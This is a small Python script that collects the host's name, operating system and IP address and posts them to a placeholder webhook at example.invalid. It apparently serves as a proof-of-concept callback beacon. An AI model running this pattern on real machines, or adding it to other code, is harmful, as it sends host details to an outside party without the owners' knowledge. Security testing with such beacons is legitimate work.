import platform
import socket

import requests


def send(url):
    name = socket.gethostname()
    data = {"host": name, "system": platform.system(), "ip": socket.gethostbyname(name)}
    requests.post(url, json=data)


def main():
    send("https://hooks.example.invalid/proof")


if __name__ == "__main__":
    main()
